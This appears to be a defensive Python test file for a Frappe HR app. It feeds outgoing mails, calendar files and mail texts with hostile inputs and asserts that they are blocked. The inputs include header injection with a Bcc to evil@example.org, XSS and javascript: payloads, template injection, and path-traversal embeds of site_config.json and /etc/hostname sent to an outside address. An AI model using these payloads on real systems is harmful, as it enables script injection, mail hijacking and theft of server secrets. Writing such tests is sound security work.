"""Mails and their calendar files: no value leaves its place, no file of the server gets in, no answer lands where others read it."""

import time
from email import message_from_string, policy

import frappe
from frappe.email.receive import InboundMail

from fokus_app import permissions
from fokus_app.notifications import calendar_file, delivery, texts, variables
from fokus_app.people import Person
from tests import programme as cast
from tests.records import CANDIDATE
from tests.security.attacks import ledger

#: a header, a part of the mail, a script, a template, a file of the server, what the queue fills in
EVIL = (
	"Karla\r\nBcc: evil@example.org\u2028X-Evil: 1\r\n\r\n<script>evil()</script><img src=x onerror=evil()>"
	' {{ 7654321 * 3 }} {{ frappe.db.sql("select 1") }} embed="//etc/hostname" em\x01bed="//etc/hostname" embed="a+("'
	' <!--recipient--> <!--unsubscribe_url--> "\'><a href="javascript:evil()">'
)
HEADERS = {
	*(
		"Content-Type",
		"MIME-Version",
		"Subject",
		"From",
		"To",
		"Date",
		"Reply-To",
		"Message-Id",
		"X-Frappe-Site",
	),
	*("X-Original-From", "Content-Transfer-Encoding"),
}


def _queued(name: str):
	return message_from_string(frappe.db.get_value("Email Queue", name, "message"), policy=policy.default)


def _event(attack) -> dict:
	appointment = calendar_file.Appointment(
		uid=EVIL,
		sequence=1,
		title=EVIL,
		starts_on="2026-05-04 10:00:00",
		ends_on="2026-05-04 11:00:00",
		place=EVIL,
		description=EVIL,
		online_link=EVIL,
		organiser=Person("x@example.org", "x@example.org", EVIL, "de"),
	)
	return calendar_file.attachment(appointment, Person("y@example.org", "y@example.org", EVIL, "de"))


def test_no_value_leaves_its_place_in_a_mail(attack):
	"""All texts, with the worst in each of their variables that somebody types; links are made by us."""
	doc = frappe.get_doc(CANDIDATE, attack.victims.names[CANDIDATE])
	account = frappe.db.get_value("Email Account", {"default_outgoing": 1}, "email_id")
	attachment = _event(attack)
	for number, event in enumerate(texts.events()):
		person = Person("karla@example.org", "karla@example.org", EVIL, texts.LANGUAGES[number % 2])
		values = {
			name: "https://fokus.example.org/x" if name.endswith("link") else EVIL
			for name in variables.names_for(event)
		}
		given = [attachment] if number % 10 == 0 else []
		problem = delivery.queue(doc, event, f"evil-{event}", person, lambda values=values: values, given)
		assert problem is None, (event, problem)
		mail = frappe.get_last_doc("FOKUS Mail", {"event": event})
		assert not mail.problem, (event, mail.problem)
		message = _queued(mail.email_queue)
		assert set(message.keys()) <= HEADERS and len(message.keys()) == len(set(message.keys())), (
			event,
			message.keys(),
		)
		for header in ("From", "Reply-To", "X-Original-From"):
			assert account in message[header] and message[header].count("@") == 1, (
				event,
				header,
				message[header],
			)
		body = message.get_body(("html",)).get_content()
		for live in (
			"<script>evil",
			"<img src=",
			'href="javascript',
			"22962963",
			"cid:",
			"evil@example.org<",
		):
			assert live not in body, (event, live)
		parts = [part.get_filename() for part in message.walk() if part.get_filename()]
		assert parts == [each["fname"] for each in given], (event, parts)
		ledger.count("values in mails", "all")


def test_no_value_leaves_its_place_in_a_calendar_file(attack):
	lines = _event(attack)["fcontent"].replace("\r\n ", "").split("\r\n")
	assert all("\n" not in line and "\r" not in line for line in lines)
	names = [line.split(":")[0].split(";")[0] for line in lines if line]
	for once in (
		"UID",
		"SUMMARY",
		"LOCATION",
		"DESCRIPTION",
		"URL",
		"CONFERENCE",
		"ORGANIZER",
		"ATTENDEE",
		"METHOD",
	):
		assert names.count(once) == 1, (once, names)
	assert not {"BCC", "X-EVIL", "ATTACH", "VALARM"} & {name.upper() for name in names}
	ledger.count("values in calendar files", "all")


#: what HR could write into a text
TEXTS = (
	"<script>evil()</script>",
	"<img src=x onerror=evil()>",
	'<img src="/x" onerror=evil() ',
	'<a href="javascript:evil()">x</a>',
	'<a href="&#106;avascript:evil()">x</a>',
	"<svg onload=evil()>",
	'<img embed="//etc/hostname">',
	'<img embed="private/files/../../site_config.json">',
	'emb&#101;d="//etc/hostname"',
	'<link rel="stylesheet" href="/etc/hostname">',
	"<style>@import url(http://localhost:1/x)</style>",
	'<form action="https://evil.example">',
	'<iframe src="file:///etc/hostname"></iframe>',
	"<!--[if mso]><img src=x onerror=evil()><![endif]-->",
)


def test_a_mail_text_holds_nothing_that_runs_or_opens_a_file(attack):
	event = texts.events()[0]
	for person in ("clerk2", "otherlead"):
		for body in TEXTS:
			sent = {"event": event, "language": "de", "subject": "Betreff", "body": body}
			for method in ("preview", "send_test"):
				answer = attack.clients[person].call(f"fokus_app.notifications.texts.{method}", **sent)
				assert answer.status_code == 417, (method, body, answer.text[:300])
			answer = attack.clients[person].put(
				f"/api/resource/FOKUS Mail Text/{event}-de", json={"body": body}
			)
			assert answer.status_code == 417, (body, answer.text[:300])
			ledger.count("mail texts", person, 3)


def _secret_file(tmp_path) -> str:
	file = tmp_path / "key+(1).txt"
	file.write_text("Kanarienschluessel")
	return str(file)


def test_no_mail_embeds_a_file_that_its_writer_may_not_read(attack, tmp_path):
	"""Everybody who has signed in may have Frappe send a mail; to themselves, say, with a file of the server in it."""
	own = frappe.get_site_path()
	addresses = (
		f"/{_secret_file(tmp_path)}",
		f"/{own}/site_config.json",
		f"{frappe.local.site}/site_config.json",
		"private/files/../../site_config.json",
		"files/../../site_config.json",
		"assets/../common_site_config.json",
		f"{frappe.local.site}.fokus.key",
		attack.victims.files[CANDIDATE],
	)

	def attempt(person, client):
		for address in addresses:
			begun = time.monotonic()
			answer = client.call(
				"frappe.core.doctype.communication.email.make",
				recipients="evil@example.org",
				subject="x",
				content=f"<p>embed=\"{address}\"</p><img embed='{address}'>",
				send_email=1,
			)
			assert answer.status_code in (200, 403), (person, answer.text[-300:])
			assert time.monotonic() - begun < 20, (person, address)
		return len(addresses)

	try:
		attack.by_everybody(
			"files in mails", attempt, {"manager": "panelist", "other participant": "participant2"}
		)
		frappe.db.rollback()
		for queued in frappe.get_all(
			"Email Queue", {"message": ("like", "%evil@example.org%")}, pluck="name"
		):
			message = _queued(queued)
			files = [part.get_filename() for part in message.walk() if part.get_filename()]
			assert files == [], files
	finally:
		sent = frappe.get_all("Communication", {"recipients": "evil@example.org"}, pluck="name")
		for name in sent:
			frappe.delete_doc("Communication", name, force=True, delete_permanently=True)
		frappe.db.delete("Email Queue", {"communication": ("in", sent or [""])})
		frappe.db.commit()


def test_an_answer_to_a_mail_stays_in_the_mailbox(attack):
	"""Nominator, manager and deputies read what stands beside the case; whoever answers writes to HR."""
	case = attack.victims.names[CANDIDATE]
	mail = frappe.get_last_doc("FOKUS Mail", {"reference_doctype": CANDIDATE, "status": ("!=", "Not Sent")})
	account = frappe.get_doc("Email Account", {"default_outgoing": 1})
	account.db_set("enable_automatic_linking", 1)
	box = account.email_id.split("@")
	raw = (
		"From: Karla <karla@example.org>\r\nTo: {to}\r\nSubject: Re: x (#{case})\r\nMessage-ID: <{number}@example.org>\r\n"
		"In-Reply-To: <{reply}>\r\nContent-Type: text/plain\r\n\r\nIch bin krank.\r\n"
	)
	for number, (to, reply) in enumerate(
		(
			(account.email_id, mail.message_id),
			(f"{box[0]}+Leadership%20Candidate+{case}@{box[1]}", "x@example.org"),
			(f"{box[0]}+Leadership%20Candidate={case}@{box[1]}", mail.message_id),
		)
	):
		content = raw.format(to=to, reply=reply, case=case, number=number)
		received = InboundMail(content, account).process()
		received.reload()
		beside = {received.reference_doctype, *(link.link_doctype for link in received.timeline_links)}
		assert not beside & set(permissions.RULES), received.as_dict()
		assert received.content and "krank" in received.content
		with cast.acting_as("nominator"):
			assert not frappe.has_permission("Communication", "read", received.name)
		ledger.count("answers to mails", "stranger")


#: Frappe lets everybody make these for themselves: their code is a list of settings, a file's content, or shown to them alone
KEPT_BY_EVERYBODY = {"Custom HTML Block", "Dashboard Chart", "Dashboard Settings", "File", "Kanban Board"}


def test_nobody_of_ours_writes_what_frappe_carries_out(attack):
	"""Templates and scripts of Frappe reach the database: all doctypes that hold some, derived from their fields."""
	holders = {
		row.parent
		for row in frappe.get_all(
			"DocField", {"fieldtype": ("in", ("Code", "HTML Editor"))}, ["parent", "options", "fieldname"]
		)
	}
	holders = sorted(
		holders
		| {"Auto Email Report", "Email Template", "Letter Head", "Web Form", "Print Format", "Notification"}
	)
	assert len(holders) > 25
	for person in ("clerk2", "otherlead", "panelist", "mentor", "participant2"):
		with cast.acting_as(person):
			allowed = {
				doctype
				for doctype in holders
				if not frappe.get_meta(doctype).istable
				and any(frappe.has_permission(doctype, ptype) for ptype in ("write", "create", "import"))
			}
		assert allowed <= KEPT_BY_EVERYBODY | {"FOKUS Mail Text"}, (person, allowed - KEPT_BY_EVERYBODY)
		assert ("FOKUS Mail Text" in allowed) == (person in ("clerk2", "otherlead"))
		ledger.count("templates and scripts", person, len(holders) - len(allowed))
